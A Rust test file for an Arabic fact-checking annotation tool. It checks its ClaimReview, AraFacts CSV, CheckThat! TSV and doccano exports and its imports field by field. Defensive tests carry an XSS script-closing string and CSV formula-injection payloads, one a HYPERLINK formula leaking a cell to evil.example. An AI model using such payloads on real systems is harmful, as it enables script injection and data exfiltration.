//! Other tools' formats: each export parsed back and checked field by field against the annotations
//! (ClaimReview, AraFacts CSV, CheckThat! TSV, doccano JSONL), and the Hypothesis and doccano imports
//! (shapes, tags → kinds, rejections, twice = nothing).

use crate::common::{annotate, validate_w3c};

/// The bundled article, as if opened from its web address (the formats' URL fields carry it).
fn article() -> Article {
    let mut a = crate::common::article();
    a.source = "https://news.example/2026/11/syria-russia-sources".into();
    a
}
use hamish::core::annotations::model::{Annotation, Kind};
use hamish::core::claims::claim::{Claimant, Evidence, Stance};
use hamish::core::claims::settings::Reviewer;
use hamish::core::claims::verdicts::{arafacts_scale, default_scale};
use hamish::core::entities::registry::default_registry;
use hamish::core::exchange::claimreview::{claim_url, shorten, CLAIM_MAX};
use hamish::core::exchange::tables::{ARAFACTS_COLUMNS, CHECKTHAT_COLUMNS};
use hamish::core::exchange::{Export, ForeignReason, Format};
use hamish::core::text::article::{Article, BlockKind};
use hamish::core::text::graphemes::{marks_join, unicode_clusters, use_segmenter, ClusterLengths};
use hamish::core::text::units::slice_cp;
use hamish::core::w3c::import::{merge, same_spans, Parsed, RejectReason};
use hamish::i18n::Lang;
use serde_json::{json, Value};
use std::rc::Rc;

const NOW: &str = "2026-11-30T08:00:00Z";
const LONG: &str =
    "والدور الذي لعبته روسيا بإقناع الأسد بالتنحي، لتفادي دخول سوريا في حمام دم لن تعرف نهايته";
const ADVICE: &str = "ونصح الروس الأسد بفتح حوار سياسي فوري مع المعارضة";
const NOTE: &str = "قال \"مصدر\"، ثم, أضاف:\nنعم\r\nلا, \"حقًا\"";

/// The annotations every export test reads: two entity tags and four claims (a long one attributed
/// to the al-Assad tag with evidence, one without claimant, one typed by hand, one typed with
/// Russia's Wikidata IRI), and an orphan claim that no export holds.
fn sample(a: &Article) -> Vec<Annotation> {
    let assad = annotate(
        a,
        "بشار الأسد",
        Kind::Entity("al-assad".into()),
        "urn:x:assad",
    );
    let russia = annotate(
        a,
        "المخابرات الروسية",
        Kind::Entity("russia".into()),
        "urn:x:russia",
    );
    let mut long = annotate(a, LONG, Kind::Claim, "urn:x:long");
    long.note = NOTE.into();
    long.claim.review = Some("https://factcheck.example/2026/long".into());
    long.claim.verdict = Some("false".into());
    long.claim.verdict_at = Some("2026-11-29T12:00:00.000Z".into());
    long.claim.claimant = Some(Claimant::Entity("urn:x:assad".into()));
    long.claim.evidence = vec![
        Evidence {
            url: "https://misbar.example/ar/تحقق".into(),
            stance: Stance::Refutes,
        },
        Evidence {
            url: "https://example.org/b?x=1,2".into(),
            stance: Stance::Context,
        },
    ];
    long.claim.date = Some("2024-12-08".into());
    long.claim.check_worthy = Some(true);
    let mut advice = annotate(a, ADVICE, Kind::Claim, "urn:x:advice");
    advice.note = "بلا قائل".into();
    advice.claim.verdict = Some("mostly-true".into());
    advice.claim.verdict_at = Some("2026-11-28T09:00:00Z".into());
    advice.claim.check_worthy = Some(false);
    let mut typed = annotate(a, "المعارضة السورية", Kind::Claim, "urn:x:typed");
    typed.claim.verdict = Some("unverifiable".into());
    typed.claim.claimant = Some(Claimant::Named {
        name: "مراسل محلي".into(),
        wikidata: None,
    });
    let mut state = annotate(a, "سقوط نظام الأسد", Kind::Claim, "urn:x:state");
    state.claim.verdict = Some("true".into());
    state.claim.claimant = Some(Claimant::Named {
        name: "الحكومة الروسية".into(),
        wikidata: Some("http://www.wikidata.org/entity/Q159".into()),
    });
    let mut orphan = annotate(a, "الروس", Kind::Claim, "urn:x:orphan");
    orphan.orphan = true;
    orphan.claim.verdict = Some("false".into());
    orphan.claim.check_worthy = Some(true);
    vec![orphan, state, typed, advice, long, russia, assad]
}

fn reviewer() -> Reviewer {
    Reviewer {
        name: "سارة".into(),
        organization: "مسبار, \"تحقق\"".into(),
        url: "https://misbar.example".into(),
    }
}

/// The file of `format` for the sample, labels in Arabic.
fn write(format: Format) -> String {
    write_for(&article(), format)
}

/// The file of `format` for the sample annotations of `a`, labels in Arabic.
fn write_for(a: &Article, format: Format) -> String {
    let annotations = sample(a);
    let (registry, scale, reviewer) = (default_registry(), default_scale(), reviewer());
    Export {
        annotations: &annotations,
        article: a,
        registry: &registry,
        scale: &scale,
        reviewer: &reviewer,
        arabic: true,
    }
    .write(format, "urn:x:export", NOW)
}

#[test]
fn formats_have_names_and_unknown_ones_none() {
    for (name, format) in [
        ("w3c", Format::W3c),
        ("claimreview", Format::ClaimReview),
        ("arafacts-csv", Format::AraFactsCsv),
        ("checkthat-tsv", Format::CheckThatTsv),
        ("jsonl", Format::Jsonl),
    ] {
        assert_eq!(Format::from_name(name), Some(format));
        assert_eq!(format.name(), name);
    }
    for name in ["", "W3C", "csv", "pdf"] {
        assert_eq!(Format::from_name(name), None, "{name}");
    }
}

#[test]
fn claims_are_shortened_on_a_word_boundary() {
    let giant: String = "ب".repeat(100);
    let cases: [(&str, String); 4] = [
        ("قصير", "قصير".into()),
        ("  كلمتان \n هنا ", "كلمتان هنا".into()),
        (
            LONG,
            "والدور الذي لعبته روسيا بإقناع الأسد بالتنحي، لتفادي دخول سوريا في حمام دم…".into(),
        ),
        (&giant, format!("{}…", "ب".repeat(CLAIM_MAX - 1))),
    ];
    for (quote, want) in cases {
        let got = shorten(quote);
        assert_eq!(got, want);
        assert!(got.chars().count() <= CLAIM_MAX);
    }
    let exact: String = "ا".repeat(CLAIM_MAX);
    assert_eq!(shorten(&exact), exact);
    // No space: the cut falls between letter clusters, under Unicode's segmentation and under the
    // bundle's fallback (marks_join). (text, what is kept before the ellipsis.)
    let alefs = |n: usize| "ا".repeat(n);
    let family = "👨\u{200D}👩\u{200D}👧";
    let mid: [(String, String); 5] = [
        // بِّ (ba, kasra, shadda) with its shadda at the limit: the whole letter goes.
        (format!("{}بِّ{}", alefs(72), alefs(10)), alefs(72)),
        // The shadda alone at the limit.
        (format!("{}بّ{}", alefs(73), alefs(10)), alefs(73)),
        // A letter starts at the limit: cut there, as before.
        (format!("{}بِّ{}", alefs(74), alefs(10)), alefs(74)),
        // An emoji ZWJ sequence across the limit stays whole (here: left out).
        (format!("{}{family}{}", alefs(72), alefs(10)), alefs(72)),
        // One that ends just before the limit is kept.
        (
            format!("{}{family}{}", alefs(69), alefs(10)),
            format!("{}{family}", alefs(69)),
        ),
    ];
    for segmenter in [unicode_clusters as ClusterLengths, marks_join] {
        use_segmenter(segmenter);
        for (quote, kept) in &mid {
            assert_eq!(shorten(quote), format!("{kept}…"), "{quote}");
        }
    }
    use_segmenter(unicode_clusters);
    assert_eq!(
        claim_url("https://news.example/a#top", "urn:x:1"),
        "https://news.example/a#hamish-claim=urn:x:1"
    );
}

#[test]
fn claimreview_has_one_review_per_claim_with_a_verdict() {
    let a = article();
    let doc: Value = serde_json::from_str(&write(Format::ClaimReview)).expect("JSON");
    assert_eq!(doc["@context"], "https://schema.org");
    let graph = doc["@graph"].as_array().cloned().unwrap_or_default();
    // Reading order; the orphan is left out.
    let urls: Vec<&str> = graph.iter().filter_map(|r| r["url"].as_str()).collect();
    let url = |id: &str| format!("{}#hamish-claim={id}", a.source);
    assert_eq!(
        urls,
        [
            url("urn:x:state"),
            // The published fact-check's own page, when given.
            "https://factcheck.example/2026/long".into(),
            url("urn:x:typed"),
            url("urn:x:advice")
        ]
    );
    for review in &graph {
        // Required fields of a ClaimReview, and the review's author: the reviewer's organisation.
        assert_eq!(review["@type"], "ClaimReview");
        assert!(review["claimReviewed"]
            .as_str()
            .is_some_and(|c| !c.is_empty() && c.chars().count() <= CLAIM_MAX));
        assert_eq!(review["reviewRating"]["@type"], "Rating");
        assert!(review["reviewRating"]["alternateName"].is_string());
        assert_eq!(review["reviewRating"]["bestRating"], 5);
        assert_eq!(review["reviewRating"]["worstRating"], 1);
        assert_eq!(review["itemReviewed"]["@type"], "Claim");
        assert_eq!(
            review["itemReviewed"]["appearance"],
            json!({ "@type": "CreativeWork", "url": a.source })
        );
        assert_eq!(
            review["author"],
            json!({ "@type": "Organization", "name": "مسبار, \"تحقق\"", "url": "https://misbar.example" })
        );
    }
    let by = |id: &str| {
        graph
            .iter()
            .find(|r| r["url"] == url(id))
            .cloned()
            .unwrap_or_default()
    };
    let long = (graph.iter())
        .find(|r| r["url"] == "https://factcheck.example/2026/long")
        .cloned()
        .unwrap_or_default();
    let reviewed = long["claimReviewed"].as_str().unwrap_or_default();
    let kept = reviewed.trim_end_matches('…');
    assert!(reviewed.ends_with('…') && LONG.starts_with(kept));
    assert!(LONG[kept.len()..].starts_with(char::is_whitespace));
    assert_eq!(
        long["reviewRating"],
        json!({ "@type": "Rating", "alternateName": "خاطئ", "ratingValue": 1, "bestRating": 5, "worstRating": 1 })
    );
    assert_eq!(
        long["itemReviewed"]["author"],
        json!({ "@type": "Person", "name": "الأسد", "sameAs": "http://www.wikidata.org/entity/Q44329" })
    );
    assert_eq!(long["itemReviewed"]["datePublished"], "2024-12-08");
    assert_eq!(long["datePublished"], "2026-11-29");
    let advice = by("urn:x:advice");
    assert_eq!(advice["claimReviewed"], ADVICE);
    assert_eq!(advice["reviewRating"]["alternateName"], "صحيح في معظمه");
    assert_eq!(advice["reviewRating"]["ratingValue"], 4);
    assert!(advice["itemReviewed"].get("author").is_none());
    assert!(advice["itemReviewed"].get("datePublished").is_none());
    let typed = by("urn:x:typed");
    assert!(typed["reviewRating"].get("ratingValue").is_none());
    assert_eq!(typed["reviewRating"]["alternateName"], "لا يمكن التحقق منه");
    assert_eq!(
        typed["itemReviewed"]["author"],
        json!({ "@type": "Person", "name": "مراسل محلي" })
    );
    assert!(typed.get("datePublished").is_none());
    assert_eq!(
        by("urn:x:state")["itemReviewed"]["author"],
        json!({ "@type": "Organization", "name": "الحكومة الروسية", "sameAs": "http://www.wikidata.org/entity/Q159" })
    );
}

/// A verdict with no known time (a doccano span's, dated 1970-01-01 so that it never replaces later
/// work) is exported without a day: no ClaimReview says it was published in 1970, and the W3C
/// assessing body has no `created` (its import then takes the annotation's `modified`, as before).
#[test]
fn a_verdict_with_no_known_time_is_exported_without_one() {
    let a = article();
    let mut claim = annotate(&a, ADVICE, Kind::Claim, "urn:x:undated");
    claim.claim.verdict = Some("false".into());
    claim.claim.verdict_at = Some(hamish::core::annotations::time::EPOCH.into());
    claim.created = hamish::core::annotations::time::EPOCH.into();
    claim.modified = hamish::core::annotations::time::EPOCH.into();
    let (registry, scale, reviewer) = (default_registry(), default_scale(), reviewer());
    let export = |claim: &Annotation, format| {
        Export {
            annotations: std::slice::from_ref(claim),
            article: &a,
            registry: &registry,
            scale: &scale,
            reviewer: &reviewer,
            arabic: false,
        }
        .write(format, "urn:x:export", NOW)
    };
    let reviews: Value = serde_json::from_str(&export(&claim, Format::ClaimReview)).expect("JSON");
    let review = &reviews["@graph"][0];
    assert_eq!(review["reviewRating"]["alternateName"], "False");
    assert!(review.get("datePublished").is_none(), "{review}");
    let doc: Value = serde_json::from_str(&export(&claim, Format::W3c)).expect("JSON");
    assert!(validate_w3c(&doc).ends_with(" 0 failed"));
    let bodies = doc["first"]["items"][0]["body"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let assessing = bodies
        .iter()
        .find(|b| b["purpose"] == "assessing")
        .expect("the verdict");
    assert_eq!(assessing["value"], "false");
    assert!(assessing.get("created").is_none(), "{assessing}");
    // A real time is still given, in both.
    claim.claim.verdict_at = Some("2026-11-29T12:00:00Z".into());
    let reviews: Value = serde_json::from_str(&export(&claim, Format::ClaimReview)).expect("JSON");
    assert_eq!(reviews["@graph"][0]["datePublished"], "2026-11-29");
    let doc: Value = serde_json::from_str(&export(&claim, Format::W3c)).expect("JSON");
    let bodies = doc["first"]["items"][0]["body"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(bodies
        .iter()
        .any(|b| b["purpose"] == "assessing" && b["created"] == "2026-11-29T12:00:00Z"));
}

#[test]
fn claimreview_never_closes_a_script_element() {
    let a = article();
    let hostile = "</script><script>alert(1)</script><!--";
    // Where outside text reaches the file: the quote, the claimant's name, the reviewer.
    let mut claim = annotate(&a, ADVICE, Kind::Claim, "urn:x:<script>");
    claim.target.exact = format!("قال {hostile}");
    claim.claim.verdict = Some("false".into());
    claim.claim.claimant = Some(Claimant::Named {
        name: hostile.into(),
        wikidata: None,
    });
    let reviewer = Reviewer {
        name: String::new(),
        organization: format!("<b>{hostile}"),
        url: format!("https://misbar.example/{hostile}"),
    };
    let text = write_these(&[claim], &reviewer, Format::ClaimReview);
    assert!(!text.contains('<'), "{text}");
    assert!(text.contains("\\u003c/script>"));
    let doc: Value = serde_json::from_str(&text).expect("still JSON");
    let review = &doc["@graph"][0];
    let cases = [
        (&review["claimReviewed"], format!("قال {hostile}")),
        (&review["itemReviewed"]["author"]["name"], hostile.into()),
        (&review["author"]["name"], format!("<b>{hostile}")),
        (
            &review["author"]["url"],
            format!("https://misbar.example/{hostile}"),
        ),
        (&review["url"], claim_url(&a.source, "urn:x:<script>")),
    ];
    for (got, want) in cases {
        assert_eq!(got, &Value::String(want));
    }
}

/// A tiny RFC 4180 reader: records of fields; quoted fields may hold commas, quotes (doubled) and
/// line breaks; records end with CRLF.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "a bare CR ends no record");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, '\n') => panic!("a bare LF outside quotes"),
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "the last record ends with CRLF"
    );
    records
}

#[test]
fn arafacts_csv_reads_back_field_by_field() {
    let a = article();
    let text = write(Format::AraFactsCsv);
    let body = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let records = read_csv(body);
    assert_eq!(records[0], ARAFACTS_COLUMNS);
    let rows: Vec<Vec<String>> = records[1..].to_vec();
    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        ids,
        ["urn:x:state", "urn:x:long", "urn:x:typed", "urn:x:advice"]
    );
    let source = a.source.as_str();
    let want: [[&str; 13]; 4] = [
        [
            "urn:x:state",
            "سقوط نظام الأسد",
            "",
            "مسبار, \"تحقق\"",
            "",
            "صحيح",
            "True",
            "",
            "",
            source,
            source,
            "",
            "text",
        ],
        [
            "urn:x:long",
            LONG,
            NOTE,
            "مسبار, \"تحقق\"",
            "2024-12-08",
            "خاطئ",
            "False",
            "",
            "",
            "https://factcheck.example/2026/long",
            source,
            "https://misbar.example/ar/تحقق https://example.org/b?x=1,2",
            "text",
        ],
        [
            "urn:x:typed",
            "المعارضة السورية",
            "",
            "مسبار, \"تحقق\"",
            "",
            "لا يمكن التحقق منه",
            "Unverifiable",
            "",
            "",
            source,
            source,
            "",
            "text",
        ],
        [
            "urn:x:advice",
            ADVICE,
            "بلا قائل",
            "مسبار, \"تحقق\"",
            "",
            "صحيح في معظمه",
            "Partly-false",
            "",
            "",
            source,
            source,
            "",
            "text",
        ],
    ];
    for (row, want) in rows.iter().zip(want) {
        assert_eq!(row, &want);
    }
}

/// The file of `format` for `annotations` alone, labels in English.
fn write_these(annotations: &[Annotation], reviewer: &Reviewer, format: Format) -> String {
    write_in(&article(), annotations, reviewer, format)
}

/// The file of `format` for `annotations` of `a`, labels in English.
fn write_in(
    a: &Article,
    annotations: &[Annotation],
    reviewer: &Reviewer,
    format: Format,
) -> String {
    let (registry, scale) = (default_registry(), default_scale());
    Export {
        annotations,
        article: a,
        registry: &registry,
        scale: &scale,
        reviewer,
        arabic: false,
    }
    .write(format, "urn:x:export", NOW)
}

#[test]
fn arafacts_csv_cells_never_start_a_formula() {
    // (a cell's text, what a spreadsheet is given): OWASP's characters get a `'` before them.
    let cases = [
        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", true),
        ("+1+2", true),
        ("-2+3", true),
        ("@SUM(A1:A9)", true),
        ("\t=1+1", true),
        ("\r=1+1", true),
        ("سقوط =1", false),
        ("'already quoted", false),
        ("", false),
    ];
    let a = article();
    for (hostile, guarded) in cases {
        let want = if guarded {
            format!("'{hostile}")
        } else {
            hostile.to_string()
        };
        let mut claim = annotate(&a, ADVICE, Kind::Claim, hostile);
        claim.target.exact = hostile.into();
        claim.note = hostile.into();
        claim.claim.date = Some(hostile.into());
        let reviewer = Reviewer {
            name: String::new(),
            organization: format!("{hostile}x"),
            url: String::new(),
        };
        let text = write_these(&[claim], &reviewer, Format::AraFactsCsv);
        let records = read_csv(text.trim_start_matches('\u{feff}'));
        let row = &records[1];
        // id, quote, note, date; the organisation is trimmed first (a tab or CR before it goes).
        for column in [0, 1, 2, 4] {
            assert_eq!(row[column], want, "{hostile:?} in column {column}");
        }
        let org = format!("{hostile}x");
        let org = org.trim();
        let org_guarded = org.starts_with(['=', '+', '-', '@']);
        assert_eq!(
            row[3],
            if org_guarded {
                format!("'{org}")
            } else {
                org.to_string()
            }
        );
    }
}

#[test]
fn checkthat_tsv_lists_decided_claims_on_one_line_each() {
    let a = article();
    let text = write(Format::CheckThatTsv);
    let lines: Vec<Vec<&str>> = text.lines().map(|l| l.split('\t').collect()).collect();
    // The lab's own header (CLEF 2024 Task 1, Arabic), which code written for its data reads.
    assert_eq!(
        lines[0],
        ["tweet_id", "tweet_url", "tweet_text", "class_label"]
    );
    assert_eq!(
        lines[1..],
        [
            vec!["urn:x:long", a.source.as_str(), LONG, "Yes"],
            vec!["urn:x:advice", a.source.as_str(), ADVICE, "No"],
        ]
    );
    // Tabs and line breaks in a claim's text become spaces.
    let mut claim = annotate(&a, ADVICE, Kind::Claim, "urn:x:tabs");
    claim.target.exact = "سطر\tأول\r\nثانٍ".into();
    claim.claim.check_worthy = Some(true);
    let (registry, scale, reviewer) = (default_registry(), default_scale(), Reviewer::default());
    let tsv = Export {
        annotations: &[claim],
        article: &a,
        registry: &registry,
        scale: &scale,
        reviewer: &reviewer,
        arabic: false,
    }
    .write(Format::CheckThatTsv, "", NOW);
    assert_eq!(
        tsv.lines().nth(1).map(|l| l.split('\t').nth(2)),
        Some(Some("سطر أول  ثانٍ"))
    );
}

/// A TSV read as Python's `csv.reader(f, delimiter='\t')` reads it: a field starting with a quote is
/// quoted (doubled quotes inside, up to the closing quote); records end with LF.
fn read_tsv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    for line in text.lines() {
        let mut record = Vec::new();
        for raw in line.split('\t') {
            let field = match raw.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
                Some(inner) => {
                    assert!(
                        !inner.replace("\"\"", "").contains('"'),
                        "a lone quote inside {raw:?}"
                    );
                    inner.replace("\"\"", "\"")
                }
                None => {
                    assert!(!raw.starts_with('"'), "an unclosed quote in {raw:?}");
                    raw.to_string()
                }
            };
            record.push(field);
        }
        records.push(record);
    }
    records
}

/// `tsv` as Python's csv module reads it (`csv.reader(f, delimiter='\t')`).
fn python_reads_tsv(tsv: &str) -> Vec<Vec<String>> {
    let file = std::env::temp_dir().join(format!("hamish-tsv-{}.tsv", std::process::id()));
    std::fs::write(&file, tsv).expect("write");
    let script = "import csv, json, sys\n\
        with open(sys.argv[1], newline='', encoding='utf-8') as f:\n\
        \x20   print(json.dumps(list(csv.reader(f, delimiter='\\t'))))";
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&file)
        .output()
        .expect("run python3");
    let _ = std::fs::remove_file(&file);
    assert!(
        out.status.success(),
        "python3: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON from python3")
}

#[test]
fn checkthat_tsv_reads_back_with_quotes_in_the_text() {
    let a = article();
    // (the claim's text, as a reader gets it back): tabs and line breaks are spaces, quotes stay.
    let cases = [
        (
            "\"سننسحب من المدينة\" قال المتحدث",
            "\"سننسحب من المدينة\" قال المتحدث",
        ),
        ("قال: \"لن\" نتراجع", "قال: \"لن\" نتراجع"),
        ("\"", "\""),
        ("\"\"\"", "\"\"\""),
        ("\"سطر\tأول\nثانٍ\"", "\"سطر أول ثانٍ\""),
        ("بلا علامات", "بلا علامات"),
    ];
    let claims: Vec<Annotation> = cases
        .iter()
        .enumerate()
        .map(|(i, (text, _))| {
            let mut claim = annotate(&a, ADVICE, Kind::Claim, &format!("urn:x:\"{i}"));
            claim.target.exact = (*text).into();
            claim.claim.check_worthy = Some(i % 2 == 0);
            claim
        })
        .collect();
    let tsv = write_these(&claims, &Reviewer::default(), Format::CheckThatTsv);
    let mut want: Vec<Vec<String>> = cases
        .iter()
        .enumerate()
        .map(|(i, (_, text))| {
            vec![
                format!("urn:x:\"{i}"),
                a.source.clone(),
                (*text).to_string(),
                (if i % 2 == 0 { "Yes" } else { "No" }).to_string(),
            ]
        })
        .collect();
    want.sort();
    // Rows sorted: claims on one quote have no reading order between them.
    for (reader, mut rows) in [
        ("ours", read_tsv(&tsv)),
        ("Python's", python_reads_tsv(&tsv)),
    ] {
        assert_eq!(rows[0], CHECKTHAT_COLUMNS, "{reader}");
        rows[1..].sort();
        assert_eq!(rows[1..], want, "{reader}");
    }
}

#[test]
fn jsonl_gives_spans_over_the_article() {
    let a = article();
    let text = write(Format::Jsonl);
    assert_eq!(text.matches('\n').count(), 1, "one line");
    let line: Value = serde_json::from_str(text.trim_end()).expect("JSON");
    assert_eq!(line["id"], a.id.as_str());
    assert_eq!(line["text"], a.text.as_str());
    let spans = |key: &str| -> Vec<(String, Value)> {
        line[key]
            .as_array()
            .into_iter()
            .flatten()
            .map(|s| {
                let (start, end) = (
                    s[0].as_u64().unwrap_or_default() as usize,
                    s[1].as_u64().unwrap_or_default() as usize,
                );
                (slice_cp(&a.text, start, end).to_string(), s[2].clone())
            })
            .collect()
    };
    // `label`, the column doccano reads: every span, a claim labelled `claim`.
    let labelled = spans("label");
    let tagged = |label: &str| {
        labelled
            .iter()
            .filter(|(_, l)| *l == json!(label))
            .map(|(words, _)| words.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(labelled.len(), 6);
    assert_eq!(
        [tagged("al-assad"), tagged("russia")],
        [["بشار الأسد"], ["المخابرات الروسية"]]
    );
    let claimed: Vec<String> = spans("claims").into_iter().map(|(w, _)| w).collect();
    assert_eq!(tagged("claim"), claimed);
    assert!(line.get("entities").is_none());
    assert_eq!(
        spans("claims"),
        [
            ("سقوط نظام الأسد".to_string(), json!("true")),
            (LONG.to_string(), json!("false")),
            ("المعارضة السورية".to_string(), json!("unverifiable")),
            (ADVICE.to_string(), json!("mostly-true")),
        ]
    );
}

/// doccano counts UTF-16 units (JavaScript's string indices), which differ from code points after a
/// character outside the BMP: a span after an emoji and a flag is where doccano shows it, both ways.
#[test]
fn jsonl_offsets_count_utf16_units_as_doccano_does() {
    let a = Article::from_blocks(
        "emoji",
        "urn:hamish:emoji",
        vec![
            (BlockKind::Title, "خبر 🇷🇺".into()),
            (
                BlockKind::Paragraph,
                "قال 😀 مسؤول تركي أمس إن روسيا 👨🏻‍🚒 انسحبت.".into(),
            ),
        ],
    );
    let tags = [
        annotate(&a, "مسؤول تركي", Kind::Claim, "c1"),
        annotate(&a, "روسيا", Kind::Entity("russia".into()), "e1"),
        annotate(&a, "انسحبت", Kind::Claim, "c2"),
    ];
    let registry = default_registry();
    let file = write_in(&a, &tags, &reviewer(), Format::Jsonl);
    let line: Value = serde_json::from_str(file.trim_end()).expect("JSON");
    let utf16: Vec<u16> = a.text.encode_utf16().collect();
    let shown: Vec<String> = line["label"]
        .as_array()
        .expect("label")
        .iter()
        .map(|s| {
            let (start, end) = (s[0].as_u64().unwrap_or(0), s[1].as_u64().unwrap_or(0));
            String::from_utf16_lossy(&utf16[start as usize..end as usize])
        })
        .collect();
    assert_eq!(shown, ["مسؤول تركي", "روسيا", "انسحبت"]);
    // A doccano file of the same spans, read back: on the same words.
    let back = hamish::core::exchange::import(&file, &a.text, &registry, NOW).expect("imports");
    let mut words: Vec<&str> = back
        .annotations
        .iter()
        .map(|x| x.target.exact.as_str())
        .collect();
    words.sort_unstable();
    assert_eq!(words, ["انسحبت", "روسيا", "مسؤول تركي"]);
    assert!(back.rejected.is_empty());
    // A span ending between the halves of a surrogate pair ends before that character.
    let emoji = a
        .text
        .encode_utf16()
        .position(|u| (0xD800..0xDC00).contains(&u))
        .unwrap_or(0);
    let cut = json!({ "text": a.text, "label": [[0, emoji + 1, "claim"]] }).to_string();
    let parsed = hamish::core::exchange::import(&cut, &a.text, &registry, NOW).expect("imports");
    assert_eq!(parsed.annotations[0].target.exact.trim_end(), "خبر");
}

#[test]
fn the_w3c_export_of_the_sample_stays_valid() {
    let doc: Value = serde_json::from_str(&write(Format::W3c)).expect("JSON");
    assert!(validate_w3c(&doc).ends_with(" 0 failed"));
}

/// Parses `file` against the bundled article; a refusal as the English reader reads it.
fn import(file: &str) -> Result<Parsed, String> {
    hamish::core::exchange::import(file, &article().text, &default_registry(), NOW)
        .map_err(|e| Lang::En.import_error(&e))
}

/// A Hypothesis row quoting `exact` (with a RangeSelector, which is ignored).
fn row(id: &str, exact: &str, text: &str, tags: &[&str]) -> Value {
    json!({
        "id": id, "created": "2026-11-20T09:00:00.000000+00:00", "updated": "2026-11-20T09:05:00.000000+00:00",
        "user": "acct:r@hypothes.is", "uri": "https://example.com/a", "text": text, "tags": tags,
        "target": [{ "source": "https://example.com/a", "selector": [
            { "type": "RangeSelector", "startContainer": "/p[2]", "startOffset": 0, "endContainer": "/p[2]", "endOffset": 5 },
            { "type": "TextQuoteSelector", "exact": exact, "prefix": "", "suffix": "" }
        ] }],
    })
}

#[test]
fn hypothesis_rows_become_claims_and_entity_tags() {
    let rows = vec![
        row("h1", ADVICE, "من قال هذا؟", &[]),
        row("h2", "المخابرات الروسية", "", &["russia"]),
        row("h3", "المعارضة السورية", "", &["تركيا"]),
        row(
            "h4",
            "بشار الأسد",
            "",
            &["http://www.wikidata.org/entity/Q44329"],
        ),
        row("h5", "سقوط نظام الأسد", "ملاحظة", &["misleading", "politics"]),
        // A page note: its target names the page, no text in it.
        json!({ "id": "h6", "uri": "https://example.com/a", "text": "page note", "target": [{ "source": "https://example.com/a" }] }),
        json!({ "id": "h7", "uri": "https://example.com/a", "target": [{ "selector": [{ "type": "RangeSelector", "startContainer": "/p" }] }] }),
    ];
    let shapes = [
        json!({ "total": rows.len(), "rows": rows }),
        Value::Array(rows.clone()),
    ];
    for shape in shapes {
        let parsed = import(&shape.to_string()).expect("imports");
        let got: Vec<(&str, &Kind, &str, bool)> = parsed
            .annotations
            .iter()
            .map(|a| (a.id.as_str(), &a.kind, a.note.as_str(), a.orphan))
            .collect();
        let entity = |id: &str| Kind::Entity(id.into());
        assert_eq!(
            got,
            [
                ("urn:x-hypothesis:h1", &Kind::Claim, "من قال هذا؟", false),
                ("urn:x-hypothesis:h2", &entity("russia"), "", false),
                ("urn:x-hypothesis:h3", &entity("turkey"), "", false),
                ("urn:x-hypothesis:h4", &entity("al-assad"), "", false),
                ("urn:x-hypothesis:h5", &Kind::Claim, "ملاحظة", false),
            ]
        );
        assert_eq!(
            parsed.annotations[0].modified,
            "2026-11-20T09:05:00.000000+00:00"
        );
        let reasons: Vec<(usize, RejectReason)> = parsed
            .rejected
            .iter()
            .map(|r| (r.index, r.reason.clone()))
            .collect();
        assert_eq!(
            reasons,
            [
                (6, RejectReason::NoUsableSelector),
                (7, RejectReason::NoUsableSelector)
            ]
        );
    }
    // A single row.
    let one = import(&row("h1", ADVICE, "", &[]).to_string()).expect("imports");
    assert_eq!(one.annotations.len(), 1);
    // Positions in the row are used when the quote agrees.
    assert_eq!(
        slice_cp(
            &article().text,
            one.annotations[0].span().start,
            one.annotations[0].span().end
        ),
        ADVICE
    );
}

#[test]
fn importing_the_same_file_twice_changes_nothing() {
    let a = article();
    let start = a.text.chars().count() - 10;
    let hypothesis = json!({ "total": 1, "rows": [row("h1", ADVICE, "x", &[])] }).to_string();
    let doccano = json!({ "text": a.text, "label": [[start, start + 5, "claim"]] }).to_string();
    for file in [hypothesis, doccano] {
        let mut existing = Vec::new();
        let first = import(&file).expect("imports");
        merge(&mut existing, first.annotations, &[], &[]);
        let before = existing.clone();
        let again = import(&file).expect("imports");
        let merged = merge(&mut existing, again.annotations, &[], &[]);
        assert_eq!((merged.added, merged.updated), (0, 0), "{file:.80}");
        assert_eq!(existing, before);
    }
}

/// The code-point offsets of `quote` in `text`.
fn span_of(text: &str, quote: &str) -> (usize, usize) {
    let byte = text.find(quote).unwrap_or_else(|| panic!("{quote}"));
    let start = text[..byte].chars().count();
    (start, start + quote.chars().count())
}

#[test]
fn doccano_spans_anchor_in_the_article_or_say_why_not() {
    let a = article();
    let (cs, ce) = span_of(&a.text, ADVICE);
    let (rs, re) = span_of(&a.text, "المخابرات الروسية");
    let paragraph = a
        .blocks
        .iter()
        .find(|b| b.text.contains("بشار الأسد"))
        .map(|b| b.text.clone())
        .unwrap_or_default();
    let (ps, pe) = span_of(&paragraph, "بشار الأسد");
    let file = [
        json!({ "text": a.text, "label": [[cs, ce, "claim"], [rs, re, "Russia"], [rs, re, "PERSON"]] }),
        json!({ "text": paragraph, "entities": [{ "start_offset": ps, "end_offset": pe, "label": "al-assad" }] }),
        json!({ "text": "نص آخر تماماً لا علاقة له بالمقالة", "label": [[0, 13, "claim"]] }),
        json!({ "text": "قصير", "label": [[2, 40, "claim"], [3, 3, "claim"]] }),
    ]
    .iter()
    .map(Value::to_string)
    .chain(["not json".to_string()])
